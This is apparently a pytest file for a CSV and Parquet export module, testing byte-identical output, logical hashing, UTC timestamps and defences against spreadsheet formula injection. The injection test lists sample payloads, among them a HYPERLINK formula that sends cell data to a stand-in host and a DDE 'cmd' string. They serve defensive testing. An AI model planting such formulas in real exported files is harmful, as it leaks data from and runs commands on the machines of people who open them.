"""Parquet and CSV: equal bytes for equal rows, and no cell that a spreadsheet runs."""

import csv
from datetime import UTC, datetime
from pathlib import Path

import duckdb
import pyarrow.parquet as pq
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from publishing.flat_files import write_csv, write_parquet
from publishing.logical_hash import logical_hash
from publishing.spreadsheet_text import neutral_text, neutral_text_sql
from publishing.tables import Table, read_tables

ROWS = 300_000
MAKE = f"""
create schema marts;
create table marts.mart_rows as
select i % 97 as scope_number, 'scope ' || i % 1013 as scope_id,
       cast(i * 7919 % {ROWS} as decimal(28, 9)) * 0.125 as value,
       [i, i + 1] as ids, timestamptz '2026-01-01 00:00:00+00' + to_seconds(i) as at
from range({ROWS}) as numbers(i) order by hash(i + 5)
"""


def table(con: duckdb.DuckDBPyConnection, name: str) -> Table:
    (catalog,) = con.execute("select current_database()").fetchone() or ("",)
    return next(one for one in read_tables(con, catalog) if one.name == name)


def exported(folder: Path, *, threads: int) -> tuple[bytes, bytes, str]:
    with duckdb.connect(config={"threads": threads}) as con:
        con.execute(f"set TimeZone = 'UTC'; {MAKE}")
        mart = table(con, "mart_rows")
        assert write_parquet(con, mart, folder / f"{threads}.parquet") == ROWS
        assert write_csv(con, mart, folder / f"{threads}.csv") == ROWS
        digest = logical_hash(con, mart).sha256
    return (folder / f"{threads}.parquet").read_bytes(), (folder / f"{threads}.csv").read_bytes(), digest


def test_one_thread_and_eight_write_the_same_bytes(tmp_path: Path) -> None:
    assert exported(tmp_path, threads=1) == exported(tmp_path, threads=8)
    written = pq.read_metadata(tmp_path / "1.parquet")
    assert written.num_rows == ROWS
    assert written.row_group(0).column(0).compression == "ZSTD"


def one_text(text: str, folder: Path) -> str:
    with duckdb.connect() as con:
        con.execute("create schema marts; create table marts.mart_text (note varchar)")
        con.execute("insert into marts.mart_text values (?)", [text])
        write_csv(con, table(con, "mart_text"), folder / "text.csv")
    with (folder / "text.csv").open(newline="", encoding="utf-8") as file:
        return next(csv.DictReader(file))["note"]


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.test/?"&A1,"open")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\uff1d1+1",
    ],
)
def test_text_that_a_spreadsheet_would_run_stays_text(tmp_path: Path, text: str) -> None:
    assert one_text(text, tmp_path) == f"'{text}"


@pytest.mark.parametrize("text", ["checkout", "a=b", 'say "hi", twice\nagain', "2026-05", "", "ÄÖ 東京"])
def test_other_text_is_written_as_it_is(tmp_path: Path, text: str) -> None:
    assert one_text(text, tmp_path) == text


def test_numbers_keep_their_sign_and_nothing_stays_nothing(tmp_path: Path) -> None:
    with duckdb.connect() as con:
        con.execute(
            "create schema marts; set TimeZone = 'UTC'; create table marts.mart_numbers as "
            "select -1.5::decimal(9, 2) as value, null::varchar as note, ['=1', 'b'] as flags, "
            "timestamptz '2026-05-01 12:00:00+02' as at, true as is_it"
        )
        write_csv(con, table(con, "mart_numbers"), tmp_path / "numbers.csv")
    assert (tmp_path / "numbers.csv").read_text().splitlines() == [
        'value,"note","flags",at,is_it',
        '-1.50,,"\'=1; b",2026-05-01T10:00:00.000000Z,true',
    ]


@settings(max_examples=300, deadline=None)
@given(st.text(st.characters(exclude_categories=["Cs"]), max_size=12))
def test_python_and_sql_neutralise_alike_and_nothing_risky_is_left(text: str) -> None:
    (found,) = duckdb.execute(f"select {neutral_text_sql('$1')}", [text]).fetchone() or ("",)
    assert found == neutral_text(text)
    assert found.lstrip(" ")[:1] not in set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
    assert not set(found) & {chr(code) for code in range(32) if chr(code) not in "\t\r\n"}


@pytest.mark.parametrize(
    ("left", "right"),
    [
        ("select 'a' as x, 'b' as y", "select 'a2:b' as x, '' as y"),
        ("select 'a' as x, null as y", "select 'a' as x, '' as y"),
        ("select 1 as x, 1 as y union all select 1, 1", "select 1 as x, 1 as y"),
        ("select 1 as x, 2 as y", "select 2 as x, 1 as y"),
        ("select 1::integer as x, 2 as y", "select 1::bigint as x, 2 as y"),
        ("select 1 as x, 2 as y", "select 1 as x, 2 as z"),
        ("select ['a', 'b'] as x, 1 as y", "select ['a, b'] as x, 1 as y"),
    ],
)
def test_logical_hashes_tell_rows_columns_and_types_apart(left: str, right: str) -> None:
    digests = []
    for query in (left, right):
        with duckdb.connect() as con:
            con.execute(f"create schema marts; create table marts.mart_rows as {query}")
            digests.append(logical_hash(con, table(con, "mart_rows")).sha256)
    assert digests[0] != digests[1]


def test_logical_hashes_do_not_depend_on_the_order_of_rows_or_columns() -> None:
    digests = set()
    for columns, order in (("i, i % 3 as j", "i"), ("i, i % 3 as j", "i desc"), ("i % 3 as j, i", "hash(i)")):
        with duckdb.connect() as con:
            con.execute(
                f"create schema marts; create table marts.mart_rows as select {columns} from range(999) r(i) "
                f"order by {order}"
            )
            digests.add(logical_hash(con, table(con, "mart_rows")))
    assert len(digests) == 1


def test_an_instant_is_written_in_utc_whatever_the_session_says(tmp_path: Path) -> None:
    instant = datetime(2026, 5, 1, 10, tzinfo=UTC)
    with duckdb.connect() as con:
        con.execute("set TimeZone = 'Asia/Tokyo'; create schema marts")
        con.execute("create table marts.mart_at as select $1::timestamptz as at", [instant])
        write_csv(con, table(con, "mart_at"), tmp_path / "at.csv")
    assert (tmp_path / "at.csv").read_text().splitlines()[1] == "2026-05-01T10:00:00.000000Z"
